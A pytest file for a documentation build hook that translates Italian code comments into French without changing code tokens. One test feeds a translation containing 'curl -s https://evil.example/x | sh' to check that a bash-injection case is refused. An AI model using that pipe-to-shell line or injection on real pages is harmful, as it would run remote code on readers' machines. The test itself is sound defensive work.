"""Code comments are translated; code tokens never change."""

from __future__ import annotations

import markdown
import pytest
from bs4 import BeautifulSoup

from hooks.errors import RenderError
from hooks.render.comments import translate_comments

HTML = (
    '<div class="language-python highlight"><pre><span></span><code>'
    '<span class="n">x</span> <span class="o">=</span> <span class="mi">1</span>  '
    '<span class="c1"># 1 GiB</span>\n'
    '<span class="ch">#!/usr/bin/env bash</span>\n'
    '<span class="c1"># ---</span>\n'
    '</code></pre></div><p># not code</p>'
)


def code_tokens(html: str) -> list[str]:
    soup = BeautifulSoup(html, "html.parser")
    return [s.get_text() for s in soup.select("code span") if not {"c1", "c"} & set(s.get_attribute_list("class"))]


def test_french_comment_replaced_code_untouched():
    out = translate_comments(HTML, "fr", {"1 GiB": "1 Gio"})
    assert "# 1 Gio" in out and "# 1 GiB" not in out
    assert code_tokens(out) == code_tokens(HTML)
    assert "#!/usr/bin/env bash" in out  # shebang is not prose
    assert "<p># not code</p>" in out


def test_italian_is_the_source_and_unchanged():
    assert translate_comments(HTML, "it", {}) == HTML


def test_comment_without_translation_names_its_snippet_and_prints_the_entry_to_paste():
    import yaml

    from tests.conftest import REPO_ROOT

    lines = (REPO_ROOT / "snippets" / "nccl_check.py").read_text(encoding="utf-8").splitlines()
    line = next(number for number, text in enumerate(lines, 1) if text.endswith("# 1 GiB"))
    with pytest.raises(RenderError) as raised:
        translate_comments(HTML, "fr", {})
    first, _, entry = str(raised.value).partition("\n")
    assert first == (
        f"snippets/nccl_check.py:{line}: code comment '1 GiB' has no 'fr' translation; "
        "add to snippets/comments.yaml and translate:"
    )
    assert yaml.safe_load(entry) == [{"it": "1 GiB", "fr": ""}]


def test_an_entry_no_page_uses_is_refused_with_its_line(tmp_path):
    from hooks.render.comments import check_catalogue_used

    catalogue = tmp_path / "comments.yaml"
    catalogue.write_text("# comments\n- it: usato\n  fr: utilisé\n- it: orfano\n  fr: orphelin\n", encoding="utf-8")
    check_catalogue_used({"usato", "orfano"}, "fr", tmp_path, catalogue)
    check_catalogue_used(set(), "it", tmp_path, catalogue)  # the default language translates nothing
    with pytest.raises(RenderError, match=r"^snippets/comments\.yaml:4: 'orfano' is the comment of no code block"):
        check_catalogue_used({"usato"}, "fr", tmp_path, catalogue)
    notebook = {"cells": [{"cell_type": "code", "source": ["x = 1  # orfano\n"]}]}  # a cell the page may not show
    (tmp_path / "nb.it.ipynb").write_text(__import__("json").dumps(notebook), encoding="utf-8")
    check_catalogue_used({"usato"}, "fr", tmp_path, catalogue)


def test_catalogue_covers_the_snippets():
    """The real catalogue translates every comment of every snippet the pages show."""
    from hooks.render.comments import load_catalogue

    catalogue = load_catalogue("fr")
    assert catalogue["PyTorch puro, Hugging Face Trainer"] == "PyTorch pur, Hugging Face Trainer"


def highlighted(code: str, language: str) -> str:
    """A fenced block as the site renders it (pymdownx.highlight with the language class)."""
    return markdown.markdown(
        f"```{language}\n{code}```\n",
        extensions=["pymdownx.highlight", "pymdownx.superfences"],
        extension_configs={"pymdownx.highlight": {"pygments_lang_class": True}},
    )


def test_a_comment_to_pygments_that_is_code_to_bash_is_refused():
    """Pygments reads ``GPUS=#schede; nvidia-smi -L`` as an assignment and a comment; bash runs
    ``nvidia-smi -L`` (``#`` inside a word starts no comment). Translating that "comment" made
    the French page run ``curl … | sh`` with the build green; bash's own parse now decides."""
    html = highlighted("GPUS=#schede; nvidia-smi -L\n", "bash")
    assert "schede; nvidia-smi -L" in BeautifulSoup(html, "html.parser").select_one("span.c1").get_text()
    with pytest.raises(
        RenderError,
        match=r"bash block starting 'GPUS=#schede; nvidia-smi -L': the 'fr' comments change the code as bash reads it",
    ):
        translate_comments(html, "fr", {"schede; nvidia-smi -L": "cartes; curl -s https://evil.example/x | sh"})


def test_comments_of_shell_and_yaml_blocks_are_translated_where_the_tool_reads_comments():
    shell = translate_comments(
        highlighted('nvidia-smi topo -m  # come sono collegate\necho "a # b"\n', "bash"),
        "fr",
        {"come sono collegate": "comment elles sont reliées"},
    )
    assert "# comment elles sont reliées" in shell
    config = translate_comments(
        highlighted("fsdp_config:\n  # versione di FSDP\n  fsdp_version: 2\n", "yaml"),
        "fr",
        {"versione di FSDP": "version de FSDP"},
    )
    assert "# version de FSDP" in config


def test_comments_of_a_language_no_reader_knows_are_not_translated():
    html = highlighted("let x = 1; // commento\n", "rust")
    with pytest.raises(
        RenderError, match=r"rust block starting 'let x = 1; // commento': its comments cannot be translated"
    ):
        translate_comments(html, "fr", {"commento": "commentaire"})
